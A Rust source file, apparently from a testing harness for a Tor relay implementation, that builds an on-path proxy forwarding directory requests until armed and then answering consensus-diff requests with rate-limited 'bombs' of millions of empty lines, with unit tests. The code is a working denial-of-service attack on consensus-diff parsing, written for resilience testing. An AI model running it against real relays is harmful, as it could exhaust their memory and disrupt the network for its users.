//! Consensus diffs that are bombs: the relay asks its directory authorities for the next consensus as a diff, over plain HTTP, and
//! an attacker on the path answers with tens of millions of empty lines. A line takes one byte on the wire; a reader that keeps an
//! entry for each takes many times that before it can verify anything.

use super::Attack;
use super::attacker::{Attacker, Counts};
use link::Clock;
use onion::flow::TokenBucket;
use onion::{Duration, Rate};
use std::io::{self, Read, Write};
use std::net::{Ipv4Addr, Shutdown, SocketAddr, TcpListener, TcpStream};
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Arc, Mutex, PoisonError};
use std::thread;

/// The maximum time to send an answer at the attacker's rate. The relay repeats its request afterwards.
const BOMB_TIME: Duration = Duration::from_secs(5);

/// A peer that is silent for this time is lost.
const SILENCE: Duration = Duration::from_secs(60);

/// Maximum length of the head of a request.
const HEAD_MAX: usize = 64 * 1024;

/// The number of bytes that are written at once.
const CHUNK: usize = 16 * 1024;

/// A proxy on the path between one relay and its directory authorities. It forwards all requests until it is armed. An armed proxy
/// itself answers requests that accept a consensus diff.
#[derive(Debug)]
pub struct Interceptor {
    addresses: Vec<SocketAddr>,
    shared: Arc<Shared>,
}

#[derive(Debug)]
struct Shared {
    clock: Clock,
    authorities: Vec<SocketAddr>,
    /// The maximum length of an answer that the relay accepts.
    bytes_max: u64,
    must_stop: AtomicBool,
    armed: Mutex<Option<Armed>>,
}

/// The rate of an armed proxy, and the counters of what it sends.
#[derive(Clone, Debug)]
struct Armed {
    rate: Rate,
    counts: Arc<Counts>,
}

impl Interceptor {
    /// Listens in place of these authorities, each at an attacker's address.
    ///
    /// # Errors
    /// The operating system refuses a socket or a thread.
    pub fn start(authorities: &[SocketAddr], bytes_max: u64, clock: Clock) -> io::Result<Self> {
        let (must_stop, armed) = (AtomicBool::new(false), Mutex::default());
        let known = authorities.to_vec();
        let shared = Arc::new(Shared { clock, authorities: known, bytes_max, must_stop, armed });
        let [first, second] = super::ATTACKERS;
        let mut interceptor = Self { addresses: Vec::new(), shared };
        for authority in authorities.iter().copied() {
            let listener = TcpListener::bind((Ipv4Addr::new(first, second, 0, 1), 0))?;
            interceptor.addresses.push(listener.local_addr()?);
            let shared = Arc::clone(&interceptor.shared);
            let accept = move || shared.accept(&listener, authority);
            thread::Builder::new().name("interceptor".to_owned()).spawn(accept)?;
        }
        Ok(interceptor)
    }

    /// The addresses on which the proxy listens, in the order of the authorities.
    pub fn addresses(&self) -> &[SocketAddr] {
        &self.addresses
    }

    fn arm(&self, armed: Option<Armed>) {
        *self.shared.armed.lock().unwrap_or_else(PoisonError::into_inner) = armed;
    }
}

impl Drop for Interceptor {
    fn drop(&mut self) {
        self.shared.must_stop.store(true, Ordering::Release);
        for address in &self.addresses {
            // Wakes the thread that accepts; it fails if that thread has ended.
            let _ended = TcpStream::connect(address);
        }
    }
}

impl Shared {
    fn armed(&self) -> Option<Armed> {
        self.armed.lock().unwrap_or_else(PoisonError::into_inner).clone()
    }

    fn accept(self: &Arc<Self>, listener: &TcpListener, authority: SocketAddr) {
        while let Ok((client, _)) = listener.accept() {
            if self.must_stop.load(Ordering::Acquire) {
                return;
            }
            let shared = Arc::clone(self);
            let serve = move || {
                // A peer that closes its connection is not an error of the proxy.
                let _ends = shared.serve(client, authority);
            };
            if thread::Builder::new().name("interceptor".to_owned()).spawn(serve).is_err() {
                return;
            }
        }
    }

    fn serve(&self, mut client: TcpStream, authority: SocketAddr) -> io::Result<()> {
        client.set_read_timeout(Some(SILENCE))?;
        client.set_write_timeout(Some(SILENCE))?;
        let head = read_head(&mut client)?;
        if let Some((armed, from)) = self.armed().zip(diff_base(&head)) {
            return self.send_bomb(&mut client, &armed, &from);
        }
        let authority =
            named(&head).filter(|named| self.authorities.contains(named)).unwrap_or(authority);
        let mut behind = TcpStream::connect_timeout(&authority, SILENCE)?;
        behind.set_read_timeout(Some(SILENCE))?;
        behind.set_write_timeout(Some(SILENCE))?;
        behind.write_all(&head)?;
        let (mut from, mut to) = (client.try_clone()?, behind.try_clone()?);
        // The body of a request, if it has one.
        let forward = move || io::copy(&mut from, &mut to).map(drop);
        thread::Builder::new().name("interceptor".to_owned()).spawn(forward)?;
        let answered = io::copy(&mut behind, &mut client);
        // Ends the other direction as well.
        let _gone = client.shutdown(Shutdown::Both);
        let _gone = behind.shutdown(Shutdown::Both);
        answered.map(drop)
    }

    /// Answers with a diff of empty lines, of the maximum length that the relay accepts and the rate permits.
    fn send_bomb(&self, client: &mut TcpStream, armed: &Armed, from: &str) -> io::Result<()> {
        let Armed { rate, counts } = armed;
        counts.count_request();
        let len = rate.bytes_in(BOMB_TIME).min(self.bytes_max);
        let begin = format!("network-status-diff-version 1\nhash {from} {}\n0a\n", "0".repeat(64));
        let end = ".\n";
        let lines = len.saturating_sub((begin.len() + end.len()) as u64);
        let len = lines + (begin.len() + end.len()) as u64;
        let head = format!(
            "HTTP/1.0 200 OK\r\nContent-Type: text/plain\r\nContent-Encoding: identity\r\nContent-Length: {len}\r\n\r\n"
        );
        let mut bucket =
            TokenBucket::new(*rate, Duration::from_millis(20), 65_536, self.clock.now());
        let mut send = |bytes: &[u8]| -> io::Result<()> {
            while bucket.available_bytes(self.clock.now()) < bytes.len() as u64 {
                thread::park_timeout(Attacker::PAUSE);
            }
            bucket.take(bytes.len() as u64);
            client.write_all(bytes)?;
            counts.count_sent(bytes.len() as u64);
            Ok(())
        };
        send(head.as_bytes())?;
        send(begin.as_bytes())?;
        let mut left = usize::try_from(lines).unwrap_or(usize::MAX);
        let empty = [b'\n'; CHUNK];
        while left > 0 && !self.must_stop.load(Ordering::Acquire) && self.armed().is_some() {
            let now = left.min(CHUNK);
            send(&empty[..now])?;
            left -= now;
        }
        send(end.as_bytes())?;
        client.shutdown(Shutdown::Write)
    }
}

/// Reads a request up to the empty line, and returns it with any bytes received after that line.
fn read_head(client: &mut TcpStream) -> io::Result<Vec<u8>> {
    let (mut head, mut part) = (Vec::new(), [0; 4096]);
    while !head.windows(4).any(|window| window == b"\r\n\r\n") {
        let len = client.read(&mut part)?;
        if len == 0 || head.len() > HEAD_MAX {
            return Err(io::ErrorKind::UnexpectedEof.into());
        }
        head.extend_from_slice(&part[..len]);
    }
    Ok(head)
}

/// The host that a request in absolute form names, which a client sends to its proxy (RFC 9112, section 3.2.2). C tor's directory
/// servers accept this form as well.
fn named(head: &[u8]) -> Option<SocketAddr> {
    let authority = std::str::from_utf8(head).ok()?.split(' ').nth(1)?;
    authority.strip_prefix("http://")?.split('/').next()?.parse().ok()
}

/// The digest of the consensus from which the client accepts a diff, if this requests a consensus diff.
fn diff_base(head: &[u8]) -> Option<String> {
    let head = std::str::from_utf8(head).ok()?;
    let mut lines = head.split("\r\n");
    if !lines.next()?.contains("/consensus") {
        return None;
    }
    lines.find_map(|line| {
        let (name, value) = line.split_once(':')?;
        let is_it = name.eq_ignore_ascii_case("x-or-diff-from-consensus");
        let first = value.split([' ', ',']).find(|digest| digest.len() == 64)?;
        is_it.then(|| first.to_owned())
    })
}

/// Arms the proxy for as long as it lives.
pub(super) struct Bombs {
    interceptor: Arc<Interceptor>,
    is_armed: bool,
}

impl Bombs {
    pub(super) const fn new(interceptor: Arc<Interceptor>) -> Self {
        Self { interceptor, is_armed: false }
    }
}

impl Attack for Bombs {
    fn act(&mut self, attacker: &mut Attacker) {
        if !self.is_armed {
            self.is_armed = true;
            self.interceptor.arm(Some(Armed { rate: attacker.rate(), counts: attacker.counts() }));
        }
    }
}

impl Drop for Bombs {
    fn drop(&mut self) {
        self.interceptor.arm(None);
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use netdoc::consdiff;
    use netdoc::fetch::{Fetcher, Resource};

    /// Serves one answer to each connection.
    fn authority() -> SocketAddr {
        let listener = TcpListener::bind((Ipv4Addr::LOCALHOST, 0)).expect("a port");
        let address = listener.local_addr().expect("bound");
        thread::spawn(move || {
            while let Ok((mut client, _)) = listener.accept() {
                let head = read_head(&mut client).expect("a request");
                let line = head.split(|byte| *byte == b'\r').next().expect("a line").to_vec();
                let line = String::from_utf8_lossy(&line);
                let answer = format!("HTTP/1.0 200 OK\r\n\r\nreal: {line} at {address}");
                client.write_all(answer.as_bytes()).expect("takes it");
            }
        });
        address
    }

    #[test]
    fn only_an_armed_proxy_answers_requests_that_accept_a_diff() {
        let clock = Clock::start();
        let proxy = Interceptor::start(&[authority()], 1_000_000, clock).expect("listens");
        let address = proxy.addresses()[0];
        assert_eq!(address.ip(), Ipv4Addr::new(127, 66, 0, 1), "counted as an attacker's");
        let fetch = |what: Resource, have: &[_]| {
            Fetcher::default().get_since(address, &what, have).expect("an answer")
        };
        let is_real = |text: &[u8]| text.starts_with(b"real: GET /tor/");
        let have = [[0xab; 32]];
        assert!(is_real(&fetch(Resource::ConsensusMicrodesc, &have)), "not armed");
        let counts = Arc::new(Counts::default());
        let rate = Rate::from_mbit_per_s(1000.0);
        proxy.arm(Some(Armed { rate, counts: Arc::clone(&counts) }));
        assert!(is_real(&fetch(Resource::ConsensusMicrodesc, &[])), "accepts no diff");
        assert!(is_real(&fetch(Resource::AllDescriptors, &have)), "no consensus");
        assert_eq!(counts.spent().requests, 0);
        let bomb = fetch(Resource::ConsensusMicrodesc, &have);
        assert!(consdiff::is_diff(&bomb));
        let base = hex::encode_upper([0xab; 32]);
        assert!(String::from_utf8_lossy(&bomb[..200]).contains(&format!("hash {base} ")));
        assert_eq!((bomb.len(), counts.spent().requests), (1_000_000, 1));
        assert!(counts.spent().sent_bytes > 1_000_000);
        let lines = bomb.iter().filter(|byte| **byte == b'\n').count();
        assert!(lines > 999_000, "{lines}");
        proxy.arm(None);
        assert!(is_real(&fetch(Resource::ConsensusMicrodesc, &have)), "disarmed");
    }

    #[test]
    fn a_request_that_names_an_authority_reaches_only_that_authority() {
        let (first, second) = (authority(), authority());
        let proxy =
            Interceptor::start(&[first, second], 1_000_000, Clock::start()).expect("listens");
        let answer = |named: SocketAddr| {
            let mut client = TcpStream::connect(proxy.addresses()[0]).expect("listens");
            let request = format!("GET http://{named}/tor/keys/all HTTP/1.0\r\n\r\n");
            client.write_all(request.as_bytes()).expect("takes it");
            let mut answer = String::new();
            client.read_to_string(&mut answer).expect("an answer");
            answer
        };
        assert!(answer(second).ends_with(&format!(" at {second}")));
        let stranger = TcpListener::bind((Ipv4Addr::LOCALHOST, 0)).expect("a port");
        let elsewhere = stranger.local_addr().expect("bound");
        assert!(answer(elsewhere).ends_with(&format!(" at {first}")));
    }

    #[test]
    fn an_answer_is_as_long_as_the_attackers_rate_permits() {
        let clock = Clock::start();
        let proxy = Interceptor::start(&[authority()], 1_000_000, clock).expect("listens");
        let rate = Rate::from_mbit_per_s(0.8);
        proxy.arm(Some(Armed { rate, counts: Arc::default() }));
        let mut client = TcpStream::connect(proxy.addresses()[0]).expect("listens");
        let base = "A".repeat(64);
        let request =
            format!("GET /consensus HTTP/1.0\r\nX-Or-Diff-From-Consensus: {base}\r\n\r\n");
        client.write_all(request.as_bytes()).expect("takes it");
        let head = String::from_utf8(read_head(&mut client).expect("a head")).expect("text");
        assert!(head.contains("Content-Length: 500000\r\n"), "{head}");
    }
}
